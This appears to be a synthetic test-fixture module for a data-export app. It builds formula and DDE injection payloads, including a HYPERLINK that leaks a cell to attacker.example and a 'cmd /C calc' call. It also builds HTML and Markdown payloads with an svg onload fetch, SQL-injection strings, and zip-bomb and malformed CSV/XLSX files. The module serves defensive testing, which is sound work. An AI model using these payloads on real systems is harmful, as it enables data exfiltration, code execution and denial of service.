"""Hostile inputs, made by code (SYNTHETIC): formula payloads, poisoned copies of the canonical tables, every
table the app exports, and crafted files for the bounded reader.

Tests and `benchmarks/` share these; none of it is committed data. Every generator takes its size as a
parameter so a later probe can try other inputs than the defaults here.
"""

import contextlib
import csv
import functools
import io
import os
import re
import shutil
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pandas as pd
from openpyxl import load_workbook
from PIL import Image

from wsis_data.dataset import CORE_TABLES, EVIDENCE_TABLES, Dataset
from wsis_data.spreadsheet_safety import is_formula

# Starts a spreadsheet reads as a formula or a DDE call, with and without leading whitespace, and a control
# character that XLSX cannot hold.
FORMULA_PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("https://attacker.example/?leak="&A1,"sign in again") ',
    "+1+cmd|' /C calc'!A0 ",
    "-2+3+cmd|' /C calc'!A0 ",
    "@SUM(1+1)*cmd|' /C calc'!A0 ",
    "\t=1+1 ",
    "\r=1+1 ",
    "  =1+1 ",
    "\n\u00a0@SUM(1) ",
    "\x0b=2+2\x1f ",
)

# Numbers (a goal, a year) written so that `str.isdigit()` or `\\d` takes them for digits: a superscript (which
# `int()` refuses), digits of other scripts and fullwidth digits (which `int()` accepts and would store as written),
# more digits than `int()` reads, a sign, an exponent.
HOSTILE_NUMBERS: tuple[str, ...] = (
    "²",
    "²⁰²⁰",
    "٢٠٢٠",
    "߂߀߂߀",
    "２０２０",
    "９",
    "9" * 5000,
    "+9",
    "-1",
    "2e3",
    "2020.0",
)

# Text that Markdown, Streamlit's extensions, HTML or plotly would turn into a link, an image (fetched with no
# click), a directive or an icon, each pointing outside the app.
MARKUP_PAYLOADS: tuple[str, ...] = (
    "[sign in again](https://attacker.example/login) ",
    "![pixel](https://attacker.example/pixel.png) ",
    '<img src="https://attacker.example/img.png"> ',
    '<a href="https://attacker.example/a">click</a> ',
    ":material/warning: :red[alert] :smile: ",
    "https://attacker.example/autolink www.attacker.example ",
    "<https://attacker.example/angle> ",
    "**bold** _it_ `code` $x^2$ -> ",
    "# heading\n- item ",
    "<svg onload=\"fetch('https://attacker.example/svg')\"></svg> ",
    "[ref][1] [^note]\n\n[1]: https://attacker.example/ref\n[^note]: https://attacker.example/note\n",
    "<javascript:alert(1)> <data:text/html,x> &#60;img src=https://attacker.example/e&#62; ",
    "<details open><summary>https://attacker.example/details</summary></details> | a | b |\n|---|---| ",
    # A blank line: it ends an HTML block in Markdown, and what follows would be read as Markdown.
    "\n\n[sign in again](https://attacker.example/blank-line) ",
    # A right-to-left override and an isolate left open: they would reverse or isolate the rest of the line.
    "\u202eRTL override https://attacker.example/rlo \u2067 ",
)

# Search queries that a pattern engine, a shell, SQL or a text renderer would read as more than text: every one is
# a literal string to the search (it finds items holding it, or none).
HOSTILE_QUERIES: tuple[str, ...] = (
    ".*",
    "(",
    "[a-z]+",
    "\\",
    "$^|?+{1,}",
    "%_",
    "' OR 1=1 --",
    "\x00\x1b[31m",
    "\u200b\u00ad\ufeff",
    "\u202e\u2066",
    "ﬁ Ⅸ ＫＥＮ",
    "\U0001f600 \ud7ff",
    " \t\n\r ",
    "´ ¨ a˜b",
    "٢٠٢٣ ۲۰۲۳ २०२३",
)

# Names of a file's columns that must be shown as text on one line, never acted on (markup, a link, a line break,
# a direction override, a formula, a joiner sequence).
HOSTILE_COLUMN_NAMES: tuple[str, ...] = (
    "<b>x</b>",
    "[a](javascript:alert(1))",
    "line1\nline2",
    "\u202eevil\u202c",
    "=1+2",
    "\U0001f469\u200d\U0001f4bb",
)

# Columns the loaders join on, cast to categories or parse (codes, numbers, vocabularies): poisoning them
# would only drop rows from every view. Every other column of every table is free text and is poisoned.
KEY_COLUMNS: dict[str, frozenset[str]] = {
    "action_line_titles": frozenset({"code", "lang"}),
    "action_lines": frozenset({"code", "position", "group"}),
    "activity_provenance": frozenset({"id"}),
    "connect_agenda": frozenset({"connect_code", "goal_number", "target_code", "linked_sdgs"}),
    "connect_links": frozenset({"connect_code", "goal_number", "target_code", "action_line", "basis"}),
    "data_quality": frozenset({"action_line", "goal"}),
    "evidence_coverage": frozenset({"source", "period"}),
    "evidence_items": frozenset({"source", "item_id", "kind", "countries", "regions", "region_basis", "year"}),
    "evidence_links": frozenset({"source", "item_id", "action_line", "goal", "target", "level", "basis"}),
    "evidence_sources": frozenset({"source"}),
    "hlpf_cycles": frozenset({"year", "sdgs_under_review", "status", "set_verified"}),
    "ict_indicators": frozenset({"indicator", "sdg_target", "verified"}),
    "itu_activities": frozenset(
        {"id", "sector", "region", "countries", "action_lines", "sdg_targets", "start_year", "mapping_basis"}
    ),
    "itu_regions": frozenset({"iso3", "itu_region", "itu_status"}),
    "matrix_links": frozenset({"action_line", "level", "goal", "target", "rationale_id"}),
    "rationales": frozenset({"rationale_id", "action_line", "listed_under_goal"}),
    "sdg_goals": frozenset({"goal", "colour"}),
    "sdg_indicators": frozenset({"indicator", "target", "goal"}),
    "sdg_targets": frozenset({"target", "goal", "kind"}),
    "sdg_texts": frozenset({"level", "code", "lang"}),
    "table_sources": frozenset({"table", "rows"}),
}


def poison_tables(source: Path, out: Path, payloads: tuple[str, ...] = FORMULA_PAYLOADS) -> int:
    """Copy the canonical tables from `source` to `out` with a payload before every free-text cell; return how
    many cells were poisoned."""
    out.mkdir(parents=True, exist_ok=True)
    poisoned = 0
    for path in sorted(source.iterdir()):
        if path.suffix != ".csv":
            shutil.copy(path, out / path.name)
            continue
        frame = pd.read_csv(path, dtype="string", keep_default_na=False, na_values=[])
        keys = KEY_COLUMNS.get(path.stem, frozenset())
        for position, column in enumerate(frame.columns):
            if column in keys:
                continue
            rotated = [payloads[(position + row) % len(payloads)] for row in range(len(frame))]
            frame[column] = pd.Series(rotated, index=frame.index, dtype="string") + frame[column]
            poisoned += len(frame)
        frame.to_csv(out / path.name, index=False, lineterminator="\r\n")
    return poisoned


def poisoned_dataset(folder: Path) -> Dataset:
    """Return a dataset made from the (poisoned) canonical tables in `folder`: every view computed from it is fresh."""
    tables = {
        name: pd.read_csv(folder / f"{name}.csv", dtype="string", keep_default_na=False, na_values=[])
        for name in (*CORE_TABLES, *EVIDENCE_TABLES)
    }
    return Dataset.from_tables(tables, edition="poisoned", edition_info={})


def _blank_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (1, 1), "white").save(buffer, format="PNG")
    return buffer.getvalue()


class _StubImages:
    """An image session that renders nothing: the pack's tables are what is checked, not its images. Each job gets
    an empty image of its format (the Word brief reads its pictures as PNG)."""

    def __init__(self):
        self.stubs = {"svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>", "pdf": b"%PDF-1.4 stub", "png": _blank_png()}

    def render_many(self, jobs):
        return [self.stubs[fmt] for _figure, fmt in jobs]

    def print_pdf(self, html: str) -> bytes:
        return b"%PDF-1.4 stub"


@contextlib.contextmanager
def stub_images():
    """Return an image session that renders nothing (for export paths whose tables alone are under test)."""
    yield _StubImages()


EXPORT_DAY = date(2026, 7, 14)


def exported_tables(dataset, lang: str = "en") -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """Yield (export path, kind `csv` or `xlsx`, a call that writes the file) for every table file the app writes."""
    from analytics import profiles, views
    from analytics.chart_registry import CHARTS, chart_view
    from analytics.export.captions import ExportContext
    from analytics.export.pack import pack_files
    from analytics.export.pack_request import resolve_pack
    from analytics.export.single import TABLE_FORMATS, chart_bytes
    from analytics.export.tables import csv_bytes, xlsx_bytes
    from analytics.request import ViewRequest
    from wsis_data.constants import ACTION_LINE_CODES

    request = ViewRequest(lang=lang)
    africa = ViewRequest(lang=lang, region="Africa")
    context = ExportContext(lang, '=HYPERLINK("https://attacker.example") filters', dataset.edition_label, EXPORT_DAY)
    for name in CHARTS:
        chart_request = ViewRequest(lang=lang, region="Africa", sdgs=(4,) if name == "sdg" else ())
        view = chart_view(name, dataset, chart_request)
        yield f"page chart {name}", "csv", functools.partial(csv_bytes, view.table)
        yield f"page chart {name}", "xlsx", functools.partial(xlsx_bytes, {view.name: view.table}, context)
        for fmt in TABLE_FORMATS:
            yield (
                f"cli chart {name}",
                fmt,
                functools.partial(chart_bytes, name, fmt, dataset, chart_request, EXPORT_DAY),
            )
    explorer = views.explorer_view(dataset, request)
    activity = views.activity_view(dataset, africa)
    tables: dict[str, pd.DataFrame] = {
        "explorer.gaps": explorer.gaps,
        "explorer.goal_depth": explorer.goal_depth,
        "explorer.action_line_breadth": explorer.action_line_breadth,
        "explorer.concentration": explorer.concentration,
        "explorer.uncovered": views.uncovered_view(dataset, lang),
        "data_quality.findings": views.data_quality_view(dataset).findings,
        "activities.activities": activity.activities,
        "activities.provenance": activity.provenance,
        "activities.evidence_by_region": activity.evidence_by_region,
    }
    for code in ACTION_LINE_CODES:
        profile = profiles.action_line_profile(dataset, code, lang)
        for part in ("links", "indicators", "activities"):
            tables[f"action_line_profile.{code}.{part}"] = getattr(profile, part)
    for goal in range(1, 18):
        profile = profiles.sdg_profile(dataset, goal, lang)
        for part in ("action_lines", "targets", "indicators", "activities"):
            tables[f"sdg_profile.{goal}.{part}"] = getattr(profile, part)
    for name, table in tables.items():
        yield f"page table {name}", "csv", functools.partial(csv_bytes, table)
    resolved = resolve_pack(dataset, ViewRequest(lang=lang, region="Africa", sdgs=(4, 9, 17)))
    yield "pack tables", "zip", lambda: pack_files(dataset, resolved, context, stub_images)[0]


_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def formula_cells(kind: str, data: bytes | dict[str, bytes]) -> list[str]:
    """Return the cells of a CSV or XLSX file (or of every one in a pack's files) that a spreadsheet program would
    read as formulas; a CSV cell that is a plain number, such as -0.5, is a number."""
    if isinstance(data, dict):
        return [
            f"{name}: {cell}"
            for name, content in sorted(data.items())
            if name.endswith((".csv", ".xlsx"))
            for cell in formula_cells(name.rsplit(".", 1)[1], content)
        ]
    if kind == "csv":
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        return [cell for row in rows for cell in row if is_formula(cell) and not _NUMBER.match(cell)]
    workbook = load_workbook(io.BytesIO(data))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and is_formula(cell.value)):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def text_cells(kind: str, data: bytes | dict[str, bytes]) -> list[str]:
    """Return every text cell of a CSV or XLSX file, or of a pack's files (to check that the poison reached it)."""
    if isinstance(data, dict):
        return [
            cell
            for name, content in sorted(data.items())
            if name.endswith((".csv", ".xlsx"))
            for cell in text_cells(name.rsplit(".", 1)[1], content)
        ]
    if kind == "csv":
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    workbook = load_workbook(io.BytesIO(data))
    return [
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


# ---- crafted files for the bounded reader ----


@dataclass(frozen=True)
class HostileFile:
    """A crafted input file: its name, what it tries, and how to make it in a folder."""

    name: str
    attack: str
    make: Callable[[Path], Path]


def _xlsx_parts(sheet_xml: bytes) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/xl/workbook.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            b'<Override PartName="/xl/worksheets/sheet1.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            b"</Types>"
        ),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            b'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            b'Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet_xml,
    }


def write_xlsx(path: Path, sheet_xml: bytes) -> Path:
    """Write a minimal XLSX whose only sheet is `sheet_xml` (inline strings, no shared strings)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in _xlsx_parts(sheet_xml).items():
            archive.writestr(name, data)
    return path


SHEET_OPEN = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'


def _inline_row(number: int, values: list[str]) -> bytes:
    cells = "".join(f'<c t="inlineStr"><is><t>{value}</t></is></c>' for value in values)
    return f'<row r="{number}">{cells}</row>'.encode()


def huge_declared_sheet(folder: Path) -> Path:
    """An XLSX whose sheet declares 16,384 × 1,048,576 cells and fills its last one (openpyxl would allocate it)."""
    sheet = (
        SHEET_OPEN
        + b'<dimension ref="A1:XFD1048576"/><sheetData>'
        + _inline_row(1, ["id", "name"])
        + b'<row r="1048576">'
        b'<c r="XFD1048576" t="inlineStr"><is><t>SYNTHETIC</t></is></c></row></sheetData></worksheet>'
    )
    return write_xlsx(folder / "huge_declared.xlsx", sheet)


def xlsx_bomb(folder: Path, expanded_bytes: int = 400 * 1024 * 1024) -> Path:
    """An XLSX of a few hundred KB whose sheet XML expands to `expanded_bytes` of rows."""
    path = folder / "bomb.xlsx"
    row = _inline_row(2, ["SYNTHETIC"] * 10)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in _xlsx_parts(b"").items():
            if name != "xl/worksheets/sheet1.xml":
                archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as handle:
            handle.write(SHEET_OPEN + b"<sheetData>")
            chunk = row * (1024 * 1024 // len(row))
            for _ in range(expanded_bytes // len(chunk)):
                handle.write(chunk)
            handle.write(b"</sheetData></worksheet>")
    return path


def xlsx_lying_sizes(folder: Path, expanded_bytes: int = 200 * 1024 * 1024) -> Path:
    """An XLSX bomb whose zip directory declares a small uncompressed size for its large sheet."""
    path = xlsx_bomb(folder, expanded_bytes)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    # Rewrite the uncompressed size in the central directory entry (offset 24 after its signature) to 1 KiB.
    start = data.rfind(b"PK\x01\x02", 0, data.rfind(name))
    if data[start + 24 : start + 28] != b"\xff\xff\xff\xff":
        data[start + 24 : start + 28] = (1024).to_bytes(4, "little")
    lying = folder / "lying_sizes.xlsx"
    lying.write_bytes(bytes(data))
    path.unlink()
    return lying


def wide_csv(folder: Path, columns: int = 1_000_000) -> Path:
    """A CSV whose header line has `columns` columns."""
    path = folder / "wide.csv"
    path.write_bytes(b",".join(b"c%d" % index for index in range(columns)) + b"\n")
    return path


def long_field_csv(folder: Path, field_chars: int = 200 * 1024) -> Path:
    """A CSV with one quoted field longer than Python's default CSV field limit (131,072 characters)."""
    path = folder / "long_field.csv"
    path.write_bytes(b'id,name\nT-1,"' + b"x" * field_chars + b'"\n')
    return path


def unclosed_quote_csv(folder: Path, megabytes: int = 8) -> Path:
    """A CSV whose opening quote is never closed: the rest of the file is one field."""
    path = folder / "unclosed_quote.csv"
    path.write_bytes(b'id,name\nT-1,"' + b"SYNTHETIC text, " * (megabytes * 1024 * 1024 // 16))
    return path


def latin1_csv(folder: Path) -> Path:
    """A CSV in Latin-1, not UTF-8: an `é` in its third line."""
    path = folder / "latin1.csv"
    path.write_bytes("id,name\nT-1,plain\nT-2,Télécoms\n".encode("latin-1"))
    return path


def fifo_csv(folder: Path) -> Path:
    """A FIFO named `.csv` that no one ever writes to (opening it for reading would block)."""
    path = folder / "fifo.csv"
    os.mkfifo(path)
    return path


def device_csv(folder: Path) -> Path:
    """A symbolic link named `.csv` to /dev/zero: an endless input."""
    path = folder / "zero.csv"
    path.symlink_to("/dev/zero")
    return path


def many_cells_csv(folder: Path, rows: int = 100_000, columns: int = 64) -> Path:
    """A CSV of `rows` rows of `columns` two-letter cells: few bytes, but every cell held costs some 80 bytes."""
    path = folder / "many_cells.csv"
    path.write_bytes((b",".join([b"ab"] * columns) + b"\n") * rows)
    return path


def shared_strings_xlsx(folder: Path, strings: int = 2_000_000) -> Path:
    """An XLSX whose shared strings table holds `strings` distinct short strings and whose sheet uses none of them:
    every string read costs memory, and the strings differ so that the zip compresses them too little to look
    like a bomb."""
    strings_xml = b"".join(b"<si><t>%x</t></si>" % (index * 2654435761 % 2**32) for index in range(strings))
    sheet = SHEET_OPEN + b"<sheetData/></worksheet>"
    return _with_shared_strings(folder / "shared_strings.xlsx", sheet, strings_xml, zipfile.ZIP_DEFLATED)


def nul_byte_csv(folder: Path) -> Path:
    """A CSV whose second row holds a NUL byte and a terminal escape in its name (PostgreSQL cannot store a NUL)."""
    path = folder / "nul_byte.csv"
    path.write_bytes(b"id,name\nT-1,SYNTHETIC\x00\x1b[31m\n")
    return path


def superscript_row_xlsx(folder: Path) -> Path:
    """An XLSX whose row number is a superscript two: `str.isdigit()` accepts it, `int()` refuses it."""
    sheet = SHEET_OPEN + b"<sheetData>" + _inline_row(1, ["id", "name"]).replace(b'r="1"', 'r="\u00b2"'.encode())
    return write_xlsx(folder / "superscript_row.xlsx", sheet + b"</sheetData></worksheet>")


def negative_shared_string_xlsx(folder: Path) -> Path:
    """An XLSX whose cell names shared string -1 (Python would read the last string instead)."""
    sheet = SHEET_OPEN + b'<sheetData><row r="1"><c r="A1" t="s"><v>-1</v></c></row></sheetData></worksheet>'
    return _with_shared_strings(folder / "negative_shared_string.xlsx", sheet, b"<si><t>SYNTHETIC</t></si>")


def _with_shared_strings(
    path: Path, sheet_xml: bytes, strings_xml: bytes, compression: int = zipfile.ZIP_STORED
) -> Path:
    """Write an XLSX of one sheet with a shared strings table holding `strings_xml` (its <si> elements)."""
    parts = _xlsx_parts(sheet_xml)
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rId2" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        b'Target="sharedStrings.xml"/></Relationships>',
    )
    parts["xl/sharedStrings.xml"] = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + strings_xml + b"</sst>"
    )
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


HOSTILE_FILES: tuple[HostileFile, ...] = (
    HostileFile("huge_declared.xlsx", "XLSX declaring a 16,384 × 1,048,576 sheet", huge_declared_sheet),
    HostileFile("bomb.xlsx", "XLSX whose small zip expands to 400 MB of XML", xlsx_bomb),
    HostileFile("lying_sizes.xlsx", "XLSX bomb whose zip declares a 1 KiB sheet", xlsx_lying_sizes),
    HostileFile("wide.csv", "CSV line with 1,000,000 columns", wide_csv),
    HostileFile("long_field.csv", "CSV field over Python's CSV field limit", long_field_csv),
    HostileFile("unclosed_quote.csv", "CSV with a quote never closed (8 MB field)", unclosed_quote_csv),
    HostileFile("latin1.csv", "CSV in Latin-1", latin1_csv),
    HostileFile("fifo.csv", "FIFO named .csv, never written", fifo_csv),
    HostileFile("zero.csv", "/dev/zero linked as .csv", device_csv),
    HostileFile("nul_byte.csv", "CSV with a NUL byte and a terminal escape in a cell", nul_byte_csv),
    HostileFile("superscript_row.xlsx", "XLSX whose row number is a superscript 2", superscript_row_xlsx),
    HostileFile("negative_shared_string.xlsx", "XLSX cell naming shared string -1", negative_shared_string_xlsx),
)
